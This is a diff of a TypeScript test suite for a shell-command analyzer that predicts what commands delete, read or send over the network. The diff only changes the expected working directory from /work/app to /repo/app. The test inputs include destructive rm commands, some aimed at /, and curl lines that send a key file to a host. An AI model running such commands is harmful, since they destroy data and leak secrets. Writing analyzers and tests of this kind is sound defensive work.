@@ -22,14 +22,14 @@ function deletes(command: string): readonly string[] {
 
 describe("what the shell computes", () => {
   it.each([
-    ["rm a$((1 + 2 * 3))", "delete /work/app/a7"],
-    ["x=3; rm a$((x > 2 ? x << 1 : 0))", "delete /work/app/a6"],
-    ["((n = 2)); ((n++)); rm a$n", "delete /work/app/a3"],
-    ["rm a$((16#1f)) b", "delete /work/app/a31"],
+    ["rm a$((1 + 2 * 3))", "delete /repo/app/a7"],
+    ["x=3; rm a$((x > 2 ? x << 1 : 0))", "delete /repo/app/a6"],
+    ["((n = 2)); ((n++)); rm a$n", "delete /repo/app/a3"],
+    ["rm a$((16#1f)) b", "delete /repo/app/a31"],
     ["X=/b; declare -n r=X; rm $r", "delete /b"],
     ["declare -n r=X; r=/b; rm $X", "delete /b"],
     ['X=/b; eval "rm ${X@Q}"', "delete /b"],
-    ["X=ab; rm ${X@U}", "delete /work/app/AB"],
+    ["X=ab; rm ${X@U}", "delete /repo/app/AB"],
     ["readonly D=/b; rm $D", "delete /b"],
     ["mapfile -t a <<< /b; rm ${a[0]}", "delete /b"],
     ['a=(-r /b); rm "${a[@]}"', "delete /b tree recursive"],
@@ -37,7 +37,7 @@ describe("what the shell computes", () => {
 
   it.each(["rm a$((y + 1))", "rm a$((1 / 0))", "for ((i = 0; i < 9; i++)); do rm a$i; done", "rm a$((RANDOM))"])(
     "%s is not known",
-    (command) => expect(deletes(command)[0]).toBe("delete /work/app/a‹any›"),
+    (command) => expect(deletes(command)[0]).toBe("delete /repo/app/a‹any›"),
   );
 });
 
@@ -45,7 +45,7 @@ describe("names that mktemp makes", () => {
   it.each([
     ['D=$(mktemp -d) && rm -r "$D"', "delete /tmp/tmp.XXXXXXXXX0 tree recursive"],
     ["D=$(mktemp -d -t x); rm -r $D", "delete /tmp/x.XXXXXXXXX0 tree recursive"],
-    ["D=$(mktemp -p out a.XXXXXX.log); rm $D", "delete /work/app/out/a.XXXXXXXXX0.log"],
+    ["D=$(mktemp -p out a.XXXXXX.log); rm $D", "delete /repo/app/out/a.XXXXXXXXX0.log"],
     ["D=`mktemp /tmp/a.XXXX`; rm $D", "delete /tmp/a.XXXXXXXXX0"],
     ["D=$(mktemp -d); rm -r $D/sub", "delete /tmp/tmp.XXXXXXXXX0/sub tree recursive"],
   ])("%s has the effect %s", (command, line) => expect(deletes(command)).toContain(line));
@@ -63,11 +63,11 @@ describe("names that mktemp makes", () => {
 describe("functions", () => {
   it("of a subshell end with it", () => {
     expect(deletes("( f() { rm x; } ); f")).toEqual([]);
-    expect(deletes("( f() { rm x; }; f )")).toEqual(["delete /work/app/x"]);
+    expect(deletes("( f() { rm x; }; f )")).toEqual(["delete /repo/app/x"]);
   });
   it("take the place of one of the same name", () => {
-    expect(deletes("f() { rm x; }; f() { rm y; }; f")).toEqual(["delete /work/app/y"]);
-    expect(deletes("if a; then f() { rm x; }; else f() { rm y; }; fi; f")).toEqual(["delete /work/app/y", "delete /work/app/x"]);
+    expect(deletes("f() { rm x; }; f() { rm y; }; f")).toEqual(["delete /repo/app/y"]);
+    expect(deletes("if a; then f() { rm x; }; else f() { rm y; }; fi; f")).toEqual(["delete /repo/app/y", "delete /repo/app/x"]);
   });
 });
 
@@ -77,7 +77,7 @@ describe("flags that are not known", () => {
     ['rm "-$F" /', "delete / tree recursive?"],
     ["rm -$F /", "delete / tree recursive?"],
     ["rm $A $B", "delete ‹any›"],
-    ["rm a b", "delete /work/app/a"],
+    ["rm a b", "delete /repo/app/a"],
   ])("%s has the effect %s", (command, line) => expect(deletes(command)).toContain(line));
 
   it("may be any that a rule asks for", () => {
@@ -87,7 +87,7 @@ describe("flags that are not known", () => {
 });
 
 describe("single words", () => {
-  it("of the process are as good as any", () => expect(deletes("rm a-$$")).toEqual(["delete /work/app/a-31337"]));
+  it("of the process are as good as any", () => expect(deletes("rm a-$$")).toEqual(["delete /repo/app/a-31337"]));
 
   it("are not known with letters of another script in a word", () => {
     expect(effects("r\u043c -rf x").at(-1)).toMatch(/^unresolved/);
@@ -111,7 +111,7 @@ describe("functions that start themselves", () => {
 
 describe("what is asked of another machine", () => {
   it.each(['curl "https://h/?k=$(cat key)"', 'curl -H "Authorization: $(cat key)" https://h'])("%s sends the file", (command) =>
-    expect(effects(command)).toContain("send h sources=[/work/app/key]"),
+    expect(effects(command)).toContain("send h sources=[/repo/app/key]"),
   );
   it("is sent the environment that it is piped", () => {
     expect(effects("env | cat")).toContain("read /proc/self/environ");
@@ -126,7 +126,7 @@ it("a host in punycode is not resolved", () => {
 });
 
 it("words after the code of a shell are its parameters", () => {
-  expect(deletes("bash -c 'rm -r \"$1\"' _ build")).toEqual(["delete /work/app/build tree recursive"]);
+  expect(deletes("bash -c 'rm -r \"$1\"' _ build")).toEqual(["delete /repo/app/build tree recursive"]);
 });
 
 it("a tilde in a signature is the home", () => {
